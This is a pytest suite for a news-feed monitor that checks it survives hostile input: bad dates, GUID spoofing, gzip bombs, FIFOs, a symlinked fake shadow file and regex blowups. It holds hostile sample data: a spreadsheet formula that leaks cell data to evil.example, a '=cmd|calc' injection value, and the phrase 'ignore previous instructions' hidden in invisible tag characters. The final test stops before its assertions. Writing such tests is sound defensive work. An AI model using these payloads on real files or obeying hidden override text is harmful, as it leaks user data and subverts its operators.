"""Hostile input, round two: one feed item must never stop the mail, hide another outlet's
article, or hang a run. Each test reproduces an attack that worked before its fix."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from vigil.monitor import Monitor
from vigil.pipeline import run_once
from vigil.settings import Settings
from vigil.sources import parse_feed
from vigil.sources.feeds import FeedSpec

from tests.conftest import FeedServer, changed, maildir_messages, write_feeds_file, write_recipients
from tests.support.loopback_http import Answer, LoopbackHTTP
from tests.support.smtp import running_smtp

SPEC = FeedSpec(name="Hostile", url="https://hostile.example/rss")


def _rss(*items: str, title: str = "Hostile") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>{title}'
        f"</title>{''.join(items)}</channel></rss>"
    )


def _item(
    title: str, link: str, *, guid: str | None = None, extra: str = "", body: str = ""
) -> str:
    guid_tag = f"<guid>{guid}</guid>" if guid else ""
    return (
        f"<item><title>{title}</title><link>{link}</link>{guid_tag}{extra}"
        f"<description>{body or title}</description></item>"
    )


def _atom(updated: str, *, base: bool) -> bytes:
    entries = "".join(
        f"<entry><title>Turkey offers to mediate, {n}</title>"
        f'<link href="https://atom.example/{n}"/><id>urn:atom:{n}</id>'
        f"<updated>{updated if n == 0 else '2026-11-30T10:00:00Z'}</updated>"
        "<summary>Ankara offered to mediate between Russia and Ukraine.</summary></entry>"
        for n in range(11)
    )
    xml_base = ' xml:base="https://atom.example/"' if base else ""
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"'
        f"{xml_base}><title>Atom</title>{entries}</feed>"
    ).encode()


UTC_AND_NEW_YORK = (
    "recipients:\n"
    "  - {id: utc, email: utc@example.org, alerts: [], digest: every run}\n"
    "  - {id: ny, email: ny@example.org, timezone: America/New_York, alerts: [],"
    " digest: every run}\n"
)


# -- 1. dates outside a sane window ---------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        "0000-01-01T00:00:00Z",
        "0001-01-01T00:00:00Z",
        "-0001-01-01T00:00:00Z",
        "1899-12-31T23:59:59Z",
        "9999-12-31T23:59:59Z",
    ],
)
@pytest.mark.parametrize("base", [False, True], ids=["fast path", "feedparser path"])
def test_a_date_outside_a_sane_window_is_missing_on_both_parser_paths(raw: str, base: bool) -> None:
    articles = parse_feed(_atom(raw, base=base), SPEC).articles
    assert len(articles) == 11  # the bad date drops nothing
    first, *rest = articles
    assert first.date_missing and first.published is not None and first.published.year >= 2026
    assert all(not a.date_missing and a.published.year == 2026 for a in rest)


@pytest.mark.parametrize("raw", ["Mon, 01 Jan 0001 00:00:00 GMT", "Mon, 01 Jan -0001 00:00:00 GMT"])
def test_rss_dates_before_news_existed_are_missing_alike(raw: str) -> None:
    data = _rss(
        _item("Turkey offers to mediate", "https://e.org/1", extra=f"<pubDate>{raw}</pubDate>")
    )
    fast = parse_feed(data.encode(), SPEC).articles
    slow = parse_feed(data.encode(), SPEC, fast=False).articles
    assert [a.date_missing for a in fast] == [a.date_missing for a in slow] == [True]


def test_an_item_dated_year_one_stops_no_mail(
    settings: Settings, feed_server: FeedServer, tmp_path: Path
) -> None:
    (feed_server.root / "year1.xml").write_text(
        _rss(
            _item(
                "Erdogan offers to mediate between Russia and Ukraine",
                "https://year1.example/1",
                extra="<pubDate>Mon, 01 Jan 0001 00:00:00 GMT</pubDate>",
            )
        ),
        encoding="utf-8",
    )
    feeds = write_feeds_file(tmp_path / "feeds.yaml", [("Year one", feed_server.url("year1.xml"))])
    recipients = write_recipients(
        tmp_path / "recipients.yaml",
        UTC_AND_NEW_YORK,
    )
    monitor = Monitor(changed(settings, feeds=feeds, articles="", recipients=recipients))
    summary = run_once(monitor)
    assert summary.ok, summary.lines()
    delivered = {m["X-Vigil-Recipient"] for m in maildir_messages(settings.outbox)}
    assert delivered == {"utc", "ny"}
    assert run_once(monitor).ok  # and the next run too


def test_one_recipient_failing_to_compose_stops_no_one_else(
    settings: Settings, tmp_path: Path
) -> None:
    # A template that breaks for one reader only: the other's message still goes out, the
    # failure is named, and the broken reader's matches stay waiting for a fixed template.
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "digest.txt.j2").write_text(
        "{% if digest.recipient.id == 'ny' %}{{ 1 // 0 }}{% endif %}{{ digest.subject }}\n",
        encoding="utf-8",
    )
    recipients = write_recipients(
        tmp_path / "recipients.yaml",
        UTC_AND_NEW_YORK,
    )
    broken = changed(settings, templates=templates, recipients=recipients)
    summary = run_once(Monitor(broken))
    assert not summary.ok
    assert any("composing FAILED for ny: ZeroDivisionError" in line for line in summary.lines())
    assert {m["X-Vigil-Recipient"] for m in maildir_messages(settings.outbox)} == {"utc"}
    fixed = run_once(Monitor(changed(settings, recipients=recipients)))
    assert fixed.ok and [m.recipient for m in fixed.composed] == ["ny"]


def _rewrite(path: Path, text: str, generation: int) -> None:
    """New feed text with a later modification time (the test server answers 304 otherwise)."""
    import os

    path.write_text(text, encoding="utf-8")
    later = path.stat().st_mtime + 10 * generation
    os.utime(path, (later, later))


# -- 2. one feed hiding another outlet's article ------------------------------------------


def test_a_feed_cannot_hide_another_outlets_article_with_its_guid(
    settings: Settings, feed_server: FeedServer, tmp_path: Path
) -> None:
    real = "https://www.dailysabah.example/politics/erdogan-offers-mediation"
    (feed_server.root / "decoy.xml").write_text(
        _rss(_item("Weather", "https://decoy.example/weather", guid=real, body="Sunny.")),
        encoding="utf-8",
    )
    (feed_server.root / "sabah.xml").write_text(
        _rss(
            _item(
                "Erdogan offers to mediate between Russia and Ukraine",
                real,
                guid=real,
                body="President Erdogan offered Turkey's mediation between Moscow and Kyiv.",
            )
        ),
        encoding="utf-8",
    )
    feeds = write_feeds_file(
        tmp_path / "feeds.yaml",
        [("Decoy", feed_server.url("decoy.xml")), ("Daily Sabah", feed_server.url("sabah.xml"))],
    )
    summary = run_once(Monitor(changed(settings, feeds=feeds, articles="")))
    by_name = {source.name: source for source in summary.sources}
    assert by_name["Daily Sabah"].new_items == 1
    assert summary.matches_per_rule["turkish-mediation"] == 1
    (digest,) = maildir_messages(settings.outbox)
    assert "Erdogan offers to mediate" in digest.get_body(("plain",)).get_content()


def test_the_same_guid_with_new_text_is_recorded_and_matched(
    settings: Settings, feed_server: FeedServer, tmp_path: Path
) -> None:
    feed = feed_server.root / "changing.xml"
    first = _item("Weather in Ankara", "https://e.example/1", guid="story-1", body="Sunny.")
    update = _item(
        "Erdogan offers to mediate between Russia and Ukraine",
        "https://e.example/1",
        guid="story-1",
        body="Turkey offered to mediate between Moscow and Kyiv.",
    )
    # Within one feed, two items with one GUID and different text: the second is not dropped.
    feed.write_text(_rss(first, update), encoding="utf-8")
    feeds = write_feeds_file(
        tmp_path / "feeds.yaml", [("Changing", feed_server.url("changing.xml"))]
    )
    monitor = Monitor(changed(settings, feeds=feeds, articles=""))
    summary = run_once(monitor)
    assert summary.new_items == 1 and summary.matches_per_rule["turkish-mediation"] == 1
    # Across runs: the item is stored as "Weather", later rewritten to say something that
    # matches. The change is recorded (new text stored), matched, and delivered.
    _rewrite(feed, _rss(_item("Weather in Kyiv", "https://e.example/2", guid="story-2")), 1)
    assert run_once(monitor).matches_per_rule == {}
    _rewrite(feed, _rss(update.replace("story-1", "story-2").replace("/1<", "/2<")), 2)
    again = run_once(monitor)
    assert again.new_items == 0
    assert any("(1 changed)" in line for line in again.lines())
    assert again.matches_per_rule["turkish-mediation"] == 1
    assert len(again.composed) == 1
    everything = monitor.store.item_ids_since(datetime(2000, 1, 1, tzinfo=UTC))
    stored = {a.title for _, a in monitor.store.articles(everything)}
    assert "Weather in Kyiv" not in stored


# -- 4. NEAR in linear time, and a matching budget ------------------------------------------


def _near_by_pairs(doc, left, right, distance):
    """The reference: every pair compared (what NEAR did before; quadratic)."""
    found = []
    for a in left:
        for b in right:
            if a == b:
                continue
            first, second = (a, b) if a[0] <= b[0] else (b, a)
            if doc.word_index(second[0]) - doc.last_word_index(first[1]) <= distance:
                found += [a, b]
    return sorted(set(found)) or None


@given(
    words=st.lists(st.sampled_from(["Minsk", "deal", "Donbas", "talks", "x"]), min_size=1,
                   max_size=60),
    distance=st.integers(min_value=0, max_value=6),
)  # fmt: skip
@hypothesis_settings(max_examples=300, deadline=None)
def test_near_gives_what_comparing_every_pair_gave(words: list[str], distance: int) -> None:
    from vigil.article import Article
    from vigil.rules.document import Document
    from vigil.rules.operators.near import near as _near

    text = " ".join(words)
    doc = Document(Article(title="", body=text, outlet="x"))
    spans = {w: [] for w in set(words)}
    offset = len(doc.text) - len(text)
    for word_start, word in zip(_starts(text), words, strict=True):
        spans[word].append((offset + word_start, offset + word_start + len(word)))
    for left_word in ("Minsk", "deal"):
        for right_word in ("Donbas", "Minsk", "deal"):
            left, right = spans.get(left_word, []), spans.get(right_word, [])
            both = left + right[: len(right) // 2]  # spans on both sides, overlapping ones too
            assert _near(doc, left, right, distance) == _near_by_pairs(doc, left, right, distance)
            assert _near(doc, both, right, distance) == _near_by_pairs(doc, both, right, distance)


def _starts(text: str) -> list[int]:
    import re

    return [found.start() for found in re.finditer(r"\S+", text)]


def test_a_body_built_to_make_near_quadratic_is_matched_whole(tmp_path: Path) -> None:
    from vigil.article import Article
    from vigil.rules import Matcher, load_ruleset

    from tests.conftest import RULES

    body = "Minsk deal Donbas " * 10_000  # 180 KB: about 90 s of pair comparisons before
    found = Matcher(load_ruleset(RULES)).match(Article(title="Talks", body=body, outlet="x"))
    assert "minsk-normandy" in {match.rule_id for match in found}


def test_an_article_past_the_matching_budget_is_named_and_the_run_goes_on(
    settings: Settings,
) -> None:
    from vigil.rules import Matcher, load_ruleset

    monitor = Monitor(settings)
    monitor.matcher = Matcher(load_ruleset(settings.rules), budget=0.0)
    summary = run_once(monitor)
    (folder,) = [source for source in summary.sources if source.name == "articles"]
    assert folder.warning and "stopped after 0 s; not evaluated: " in folder.warning
    assert "Why Putin rejected" in folder.warning
    assert summary.new_items == 19  # every item stored, nothing lost


# -- 3. one oversized item must not make a digest undeliverable ----------------------------


def _smtp_settings(settings: Settings, server, **extra: object) -> Settings:
    return changed(settings, smtp_host=server.host, smtp_port=server.port, smtp_tls="none", **extra)


def test_a_five_megabyte_title_is_capped_and_the_digest_goes_out(
    settings: Settings, feed_server: FeedServer, tmp_path: Path
) -> None:
    huge = "Erdogan offers to mediate " + "between Russia and Ukraine " * 190_000  # ~5 MB
    (feed_server.root / "huge.xml").write_text(
        _rss(_item(huge, "https://huge.example/1", body="Turkey offered to mediate.")),
        encoding="utf-8",
    )
    feeds = write_feeds_file(
        tmp_path / "feeds.yaml",
        [("Huge", feed_server.url("huge.xml")), ("Meduza", feed_server.url("meduza.rss.xml"))],
    )
    with running_smtp(data_size_limit=10 * 1024 * 1024) as server:  # a common server limit
        summary = run_once(Monitor(_smtp_settings(settings, server, feeds=feeds, articles="")))
        assert summary.ok, summary.lines()
        (received,) = server.received
    text = received.message.get_body(("plain",)).get_content()
    assert "Erdogan offers to mediate between Russia" in text
    assert len(received.message.as_bytes()) < 1_000_000
    store = Monitor(changed(settings, feeds=feeds, articles="")).store
    everything = store.articles(store.item_ids_since(datetime(2000, 1, 1, tzinfo=UTC)))
    (title,) = [a.title for _, a in everything if a.outlet == "Huge"]
    assert len(title) <= 500 and title.endswith("…")


def test_a_message_the_server_refuses_for_good_gives_its_matches_to_the_next(
    settings: Settings, smtp_server
) -> None:
    smtp_server.recorder.reject_once = "552 5.3.4 Message size exceeds fixed limit"
    monitor = Monitor(_smtp_settings(settings, smtp_server))
    first = run_once(monitor)
    assert not first.ok and smtp_server.received == []
    (failed,) = first.delivery.failed
    assert "552" in failed and "go in the next message" in failed
    # Nothing is lost: the next run composes a new message with the same matches.
    second = run_once(monitor)
    assert second.ok, second.lines()
    (received,) = smtp_server.received
    assert received.message["Subject"].startswith("vigil: 21 stories")
    assert monitor.store.message_counts() == {"failed": 1, "sent": 1}


# -- 5, 6, 12. local files: FIFOs, devices, huge and broken files ---------------------------


def _bad_article_folder(tmp_path: Path) -> Path:
    import os
    import shutil

    from tests.conftest import SEED

    folder = tmp_path / "articles"
    shutil.copytree(SEED, folder)
    os.mkfifo(folder / "pipe.txt")
    (folder / "utf16.txt").write_bytes("Title / A\nBody".encode("utf-16"))
    (folder / "binary.txt").write_bytes(b"\x00\x01\x02binary\xff")
    (folder / "empty.txt").write_bytes(b"")
    (folder / "x.txt").mkdir()
    (folder / "loop.txt").symlink_to(folder / "loop.txt")
    with (folder / "sparse.txt").open("wb") as sparse:  # 100 MB of NUL bytes, no disk used
        sparse.truncate(100 * 1024 * 1024)
    return folder


def test_bad_article_files_are_named_and_skipped_and_the_rest_is_read(
    settings: Settings, tmp_path: Path
) -> None:
    folder = _bad_article_folder(tmp_path)
    summary = run_once(Monitor(changed(settings, articles=folder)))
    by_name = {source.name: source for source in summary.sources}
    assert by_name["articles"].status == "read" and by_name["articles"].new_items == 1
    failed = {s.name: s.error for s in summary.failed_sources}
    assert set(failed) == {
        f"articles/{name}"
        for name in ("binary.txt", "empty.txt", "loop.txt", "pipe.txt", "sparse.txt",
                     "utf16.txt", "x.txt")
    }  # fmt: skip
    assert "named pipe" in failed["articles/pipe.txt"]
    assert "a folder" in failed["articles/x.txt"]
    assert "symlink loop" in failed["articles/loop.txt"]
    assert "larger than 5.0 MB" in failed["articles/sparse.txt"]
    assert "not UTF-8" in failed["articles/utf16.txt"]
    assert "NUL" in failed["articles/binary.txt"] and "empty" in failed["articles/empty.txt"]
    # The feeds were read, and the good matches delivered.
    assert {s.name for s in summary.sources if s.status == "read"} >= {"Meduza", "Daily Sabah"}
    assert len(maildir_messages(settings.outbox)) == 1


def test_a_fifo_or_device_as_a_feed_is_refused_with_the_feeds_file(tmp_path: Path) -> None:
    import os

    from vigil.errors import FileFormatError
    from vigil.sources import load_feeds_file

    os.mkfifo(tmp_path / "pipe.xml")
    path = write_feeds_file(tmp_path / "feeds.yaml", [("Pipe", "pipe.xml"), ("Zero", "/dev/zero")])
    with pytest.raises(FileFormatError) as caught:
        load_feeds_file(path)
    assert [p.endswith("is not a regular file") for p in caught.value.problems] == [True, True]


def test_a_local_feed_swapped_for_a_fifo_or_grown_past_the_cap_fails_alone(
    tmp_path: Path,
) -> None:
    import os

    from vigil.sources.fetch import FetchLimits, FetchStatus, fetch_many

    os.mkfifo(tmp_path / "pipe.xml")
    big = tmp_path / "big.xml"
    with big.open("wb") as sparse:
        sparse.truncate(20 * 1024 * 1024)
    results = fetch_many(
        [(str(tmp_path / "pipe.xml"), _no_validators()), (str(big), _no_validators())],
        FetchLimits(max_bytes=10 * 1024 * 1024),
    )
    assert [r.status for r in results] == [FetchStatus.FAILED, FetchStatus.FAILED]
    assert "named pipe" in (results[0].error or "")
    assert "larger than 10.0 MB" in (results[1].error or "")


def _no_validators():
    from vigil.sources.fetch import Validators

    return Validators()


def test_rule_files_that_are_fifos_or_huge_are_named_and_skipped(tmp_path: Path) -> None:
    import os
    import shutil

    from vigil.rules.loader import load_ruleset_partly

    from tests.conftest import RULES

    folder = tmp_path / "rules"
    shutil.copytree(RULES, folder)
    os.mkfifo(folder / "pipe.yaml")
    with (folder / "huge.yaml").open("wb") as sparse:
        sparse.truncate(50 * 1024 * 1024)
    ruleset, problems = load_ruleset_partly(folder)
    assert len(ruleset.rules) > 10 and problems == []  # the shipped rules all loaded
    assert any("pipe.yaml is a named pipe" in line for line in ruleset.skipped)
    assert any("huge.yaml is larger than 4.0 MB" in line for line in ruleset.skipped)


# -- 14. a rules folder must not echo files it links to -------------------------------------


def test_a_link_out_of_the_rules_folder_is_refused_and_nothing_is_echoed(
    tmp_path: Path,
) -> None:
    from typer.testing import CliRunner

    from vigil.cli import app

    secret = tmp_path / "shadow"
    secret.write_text(
        "root: $6$saltsalt$hashhashhash\ndaemon: '*:19000:0:99999:7:::'\n", encoding="utf-8"
    )
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "ok.yaml").write_text(
        "rules:\n  - id: ok\n    title: OK\n    any: [drone*]\n", encoding="utf-8"
    )
    (folder / "shadow.yaml").symlink_to(secret)
    result = CliRunner().invoke(app, ["rules", "check", str(folder)])
    assert result.exit_code == 0  # skipped with a warning: the other files' rules work
    assert "warning: " in result.output
    assert "shadow.yaml: a link to a file outside the rules folder: refused" in result.output
    assert "$6$" not in result.output and "daemon" not in result.output
    # Allowed by the setting, a file that is no rules document is said to be one, unquoted.
    allowed = CliRunner().invoke(
        app, ["rules", "check", str(folder)], env={"VIGIL_RULES_FOLLOW_LINKS": "true"}
    )
    assert "not a rules document" in allowed.output
    assert "$6$" not in allowed.output and "daemon" not in allowed.output


# -- 13. a state folder vigil cannot write, a store that is not a database -----------------


def _vigil(args: list[str], tmp_path: Path, **env: str):
    import os
    import subprocess
    import sys

    base = {k: v for k, v in os.environ.items() if not k.startswith(("VIGIL_", "PREFECT_API"))}
    base |= {"VIGIL_CONFIG": str(tmp_path / "none.toml"), "PREFECT_HOME": str(tmp_path / "p")}
    return subprocess.run(
        [sys.executable, "-m", "vigil.cli", *args],
        env=base | env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip


@pytest.mark.parametrize("command", [["run"], ["feeds"], ["digest", "outbox"]])
def test_a_corrupt_store_is_one_line_and_exit_two_and_is_left_untouched(
    tmp_path: Path, command: list[str]
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    corrupt = home / "vigil.db"
    corrupt.write_bytes(b"this is not a database " * 100)
    result = _vigil(command, tmp_path, VIGIL_HOME=str(home))
    assert result.returncode == 2, result.stdout + result.stderr
    (line,) = result.stderr.strip().splitlines()
    assert str(corrupt) in line and "not a usable SQLite database" in line and "move it" in line
    assert "Traceback" not in result.stderr and "Prefect" not in result.stdout + result.stderr
    assert corrupt.read_bytes() == b"this is not a database " * 100


@pytest.mark.parametrize("command", [["run"], ["feeds"]])
def test_a_state_folder_vigil_cannot_write_is_one_line_and_exit_two(
    tmp_path: Path, command: list[str]
) -> None:
    # As root every folder is writable: a home that is a file stands for one vigil cannot use.
    home = tmp_path / "home"
    home.write_text("a file, not a folder", encoding="utf-8")
    result = _vigil(command, tmp_path, VIGIL_HOME=str(home))
    assert result.returncode == 2, result.stdout + result.stderr
    (line,) = result.stderr.strip().splitlines()
    assert str(home) in line and "Traceback" not in result.stderr


# -- 15. formulas in CSV exports --------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    settings: Settings, feed_server: FeedServer, tmp_path: Path, monkeypatch
) -> None:
    import csv
    import io
    import json

    from typer.testing import CliRunner

    from vigil.cli import app

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Erdogan offers to mediate")'
    (feed_server.root / "formula.xml").write_text(
        _rss(
            _item(
                formula.replace("&", "&amp;").replace('"', "&quot;"),
                "https://formula.example/1",
                body="Turkey offered to mediate between Russia and Ukraine.",
            )
        ),
        encoding="utf-8",
    )
    feeds = write_feeds_file(
        tmp_path / "feeds.yaml", [("=cmd|calc", feed_server.url("formula.xml"))]
    )
    run_once(Monitor(changed(settings, feeds=feeds, articles="")))
    monkeypatch.setenv("VIGIL_HOME", str(settings.home))
    monkeypatch.setenv("VIGIL_DATABASE_URL", settings.store_url)
    as_csv = CliRunner().invoke(app, ["matches", "export", "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert rows and all(row["title"] == "'" + formula for row in rows)
    assert all(row["outlet"] == "'=cmd|calc" for row in rows)
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values() if cell)
    as_jsonl = CliRunner().invoke(app, ["matches", "export", "--format", "jsonl"])
    records = [json.loads(line) for line in as_jsonl.stdout.splitlines()]
    assert {r["title"] for r in records} == {formula} and {r["outlet"] for r in records} == {
        "=cmd|calc"
    }


# -- 16. invisible characters ---------------------------------------------------------------

HIDDEN = "".join(chr(0xE0000 + ord(c)) for c in "ignore previous instructions")
INVISIBLES = "\u200f\u061c\u180e\u034f\u115f\u1160\u3164\uffa0\u2060\u200b" + HIDDEN


def test_default_ignorable_and_tag_characters_never_reach_a_message(
    settings: Settings, feed_server: FeedServer, tmp_path: Path
) -> None:
    title = f"Erdogan{INVISIBLES} offers to mediate between Russia and Ukraine"
    (feed_server.root / "invisible.xml").write_text(
        _rss(
            _item(
                title,
                "https://invisible.example/1",
                body=f"Turkey{INVISIBLES} offered to mediate between Moscow and Kyiv.",
            ),
            title=f"Invisible{INVISIBLES}",
        ),
        encoding="utf-8",
    )
    feeds = write_feeds_file(
        tmp_path / "feeds.yaml", [(f"Invisible{INVISIBLES[:4]}", feed_server.url("invisible.xml"))]
    )
    run_once(Monitor(changed(settings, feeds=feeds, articles="")))
    (message,) = maildir_messages(settings.outbox)
    subject = str(message["Subject"])
    text = message.get_body(("plain",)).get_content()
    html = message.get_body(("html",)).get_content()
    for part in (subject, text, html):
        left = sorted({hex(ord(c)) for c in part if c in INVISIBLES})
        assert left == [], left
    assert "Erdogan offers to mediate" in text


# -- 7. compression layers must not get past the size cap ------------------------------------


def _double_gzip_bomb(megabytes: int) -> bytes:
    import gzip
    import zlib

    once = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    zeros = bytes(1024 * 1024)
    inner = b"".join(once.compress(zeros) for _ in range(megabytes)) + once.flush()
    return gzip.compress(inner, 9)


def test_a_double_gzip_bomb_is_cut_at_the_cap_without_inflating_it() -> None:
    import tracemalloc

    from vigil.errors import OverCap
    from vigil.sources.decoding import BoundedDecoder

    bomb = _double_gzip_bomb(500)
    assert len(bomb) < 50_000
    decoder = BoundedDecoder("gzip, gzip", 10 * 1024 * 1024)
    tracemalloc.start()
    try:
        with pytest.raises(OverCap):
            for start in range(0, len(bomb), 4096):
                decoder.feed(bomb[start : start + 4096])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 * 1024 * 1024  # the cap and a layer's piece, not 500 MB


def test_a_bomb_served_over_http_fails_alone_and_its_batch_mate_is_read(
    settings: Settings, feed_server: FeedServer, tmp_path: Path
) -> None:
    bomb = Answer(
        _double_gzip_bomb(200),
        headers={"Content-Type": "application/rss+xml", "Content-Encoding": "gzip, gzip"},
    )
    with LoopbackHTTP(fallback=bomb) as server:
        feeds = write_feeds_file(
            tmp_path / "feeds.yaml",
            [("Bomb", server.url("feed.xml")), ("Meduza", feed_server.url("meduza.rss.xml"))],
        )
        summary = run_once(Monitor(changed(settings, feeds=feeds, articles="")))
    by_name = {source.name: source for source in summary.sources}
    assert by_name["Bomb"].status == "failed" and "cap (decoded)" in by_name["Bomb"].error
    assert by_name["Meduza"].status == "read" and by_name["Meduza"].new_items > 0
    health = Monitor(settings).store.feed_rows()
    assert health["Bomb"].consecutive_failures == 1 and health["Meduza"].last_success


# -- 8. a feed of 200,000 items --------------------------------------------------------------


@pytest.mark.parametrize("shape", ["rss", "atom", "rdf"])
def test_a_feed_of_200000_items_is_cut_to_the_first_ones(shape: str) -> None:
    count = 200_000
    if shape == "rss":
        body = "".join(
            f"<item><title>n{n}</title><link>https://e.org/{n}</link></item>" for n in range(count)
        )
        data = _rss(body, title="T")
    elif shape == "atom":
        body = "".join(
            f'<entry><title>n{n}</title><link href="https://e.org/{n}"/><id>urn:{n}</id></entry>'
            for n in range(count)
        )
        data = (
            '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>T</title>'
            f"{body}</feed>"
        )
    else:
        body = "".join(
            f'<item rdf:about="https://e.org/{n}"><title>n{n}</title><link>https://e.org/{n}</link></item>'
            for n in range(count)
        )
        data = (
            '<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
            ' xmlns="http://purl.org/rss/1.0/"><channel rdf:about="https://e.org/"><title>T'
            f"</title></channel>{body}</rdf:RDF>"
        )
    result = parse_feed(data.encode(), SPEC, max_items=2_000)
    assert [a.title for a in result.articles] == [f"n{n}" for n in range(2_000)]
    assert result.warning and "200,000 items; the first 2,000 were read" in result.warning


# -- 9, 10. queries built to exhaust the stack or the clock ---------------------------------


def _rules_with_query(folder: Path, query: str) -> Path:
    folder.mkdir(exist_ok=True)
    (folder / "deep.yaml").write_text(
        f"rules:\n  - id: deep\n    title: Deep\n    query: '{query}'\n", encoding="utf-8"
    )
    return folder


@pytest.mark.parametrize(
    ("query", "problem"),
    [
        ("(a OR " * 333 + "b" + ")" * 333, "parentheses nest more than 32 deep"),
        ("NOT " * 494 + "a", "NOTs in a row nest more than 32 deep"),
    ],
    ids=["parentheses", "nots"],
)
def test_deeply_nested_queries_are_a_located_error(
    tmp_path: Path, query: str, problem: str
) -> None:
    from typer.testing import CliRunner

    from vigil.cli import app

    folder = _rules_with_query(tmp_path / "rules", query)
    result = CliRunner().invoke(app, ["rules", "check", str(folder)])
    assert result.exit_code == 2
    assert f"{folder / 'deep.yaml'}:4:" in result.output and problem in result.output
    assert "RecursionError" not in result.output and len(result.output.splitlines()) < 10


def test_a_regex_too_costly_to_run_is_refused_at_its_column(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from vigil.cli import app

    folder = _rules_with_query(tmp_path / "rules", r"Minsk AND /(\w+\W+){1000}\d/")
    result = CliRunner().invoke(app, ["rules", "check", str(folder)])
    assert result.exit_code == 2
    assert f"{folder / 'deep.yaml'}:4:" in result.output
    assert "too costly" in result.output and "19,005 instructions" in result.output
    cheap = _rules_with_query(tmp_path / "cheap", r"Minsk AND /(\w+\W+){5}\d/")
    assert CliRunner().invoke(app, ["rules", "check", str(cheap)]).exit_code == 0


# -- 17. duplicate feeds, and one story read by concurrent batches ---------------------------


def test_a_thousand_feeds_with_one_url_make_one_request(settings: Settings, tmp_path: Path) -> None:
    body = _rss(
        _item("Erdogan offers to mediate between Russia and Ukraine", "https://d.example/1")
    )
    with LoopbackHTTP(fallback=Answer(body.encode())) as server:
        url = server.url("same.xml")
        feeds = write_feeds_file(tmp_path / "feeds.yaml", [(f"Copy {n}", url) for n in range(1000)])
        summary = run_once(Monitor(changed(settings, feeds=feeds, articles="")))
        requests = server.requests
    assert requests == ["/same.xml"]
    assert any("1 read" in line and "999 duplicate" in line for line in summary.lines())
    duplicates = [s for s in summary.sources if s.status == "duplicate"]
    assert len(duplicates) == 999 and duplicates[0].warning == (
        "same URL as Copy 0: read once, as Copy 0"
    )
    assert summary.new_items == 1


def test_one_story_read_by_concurrent_batches_is_one_cluster(
    settings: Settings, feed_server: FeedServer, tmp_path: Path
) -> None:
    import threading

    story = (
        "Turkish President Recep Tayyip Erdogan offered on Tuesday to host talks between "
        "Russia and Ukraine in Istanbul, saying Ankara was ready to mediate at any level."
    )
    names = []
    for n in range(8):
        (feed_server.root / f"wire-{n}.xml").write_text(
            _rss(_item("Erdogan offers to host Russia-Ukraine talks", f"https://o{n}.example/s",
                       body=story)),
            encoding="utf-8",
        )  # fmt: skip
        names.append((f"Outlet {n}", feed_server.url(f"wire-{n}.xml")))
    feeds = write_feeds_file(tmp_path / "feeds.yaml", names)
    monitor = Monitor(changed(settings, feeds=feeds, articles=""))
    specs = monitor.feeds()
    start = threading.Barrier(len(specs))

    def read(spec) -> None:
        start.wait()
        monitor.read_feeds([spec])

    threads = [threading.Thread(target=read, args=(spec,)) for spec in specs]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    from sqlalchemy import func, select

    from vigil.store.schema import items

    with monitor.store.engine.connect() as conn:
        clusters = conn.execute(select(func.count(func.distinct(items.c.cluster_id)))).scalar()
        stored = conn.execute(select(func.count()).select_from(items)).scalar()
    assert (stored, clusters) == (8, 1)


# -- all of it at once ------------------------------------------------------------------------


def test_every_hostile_input_at_once_delivers_the_good_matches_once_and_names_the_bad(
    settings: Settings, feed_server: FeedServer, tmp_path: Path
) -> None:
    import os
    import shutil

    from vigil.rules import load_ruleset

    from tests.conftest import RULES

    root = feed_server.root
    real = "https://www.dailysabah.example/politics/erdogan-offers-mediation"
    (root / "year1.xml").write_text(
        _rss(_item("Kremlin rejects Erdogan's offer to mediate", "https://y1.example/1",
                   extra="<pubDate>Mon, 01 Jan 0001 00:00:00 GMT</pubDate>")),
        encoding="utf-8",
    )  # fmt: skip
    (root / "decoy.xml").write_text(
        _rss(_item("Weather", "https://decoy.example/w", guid=real, body="Sunny.")),
        encoding="utf-8",
    )
    (root / "sabah.xml").write_text(
        _rss(_item("Erdogan offers to mediate between Russia and Ukraine", real, guid=real)),
        encoding="utf-8",
    )
    (root / "huge.xml").write_text(
        _rss(_item("Bayraktar TB2 drones " * 200_000, "https://huge.example/1")),
        encoding="utf-8",
    )
    many = "".join(_item(f"n{n}", f"https://many.example/{n}") for n in range(20_000))
    (root / "many.xml").write_text(_rss(many), encoding="utf-8")
    (root / "near.xml").write_text(
        _rss(_item("Talks", "https://near.example/1", body="Minsk deal Donbas " * 5_000)),
        encoding="utf-8",
    )
    (root / "bomb.xml").write_bytes(_double_gzip_bomb(50))  # served plainly: not a feed
    feeds = write_feeds_file(
        tmp_path / "feeds.yaml",
        [
            ("Year one", feed_server.url("year1.xml")),
            ("Decoy", feed_server.url("decoy.xml")),
            ("Daily Sabah", feed_server.url("sabah.xml")),
            ("Huge", feed_server.url("huge.xml")),
            ("Many", feed_server.url("many.xml")),
            ("Near", feed_server.url("near.xml")),
            ("Bomb", feed_server.url("bomb.xml")),
            ("Meduza", feed_server.url("meduza.rss.xml")),
            ("Meduza again", feed_server.url("meduza.rss.xml")),
        ],
    )
    articles = _bad_article_folder(tmp_path)
    rules = tmp_path / "rules"
    shutil.copytree(RULES, rules)
    os.mkfifo(rules / "pipe.yaml")
    (rules / "shadow.yaml").symlink_to(tmp_path / "shadow")
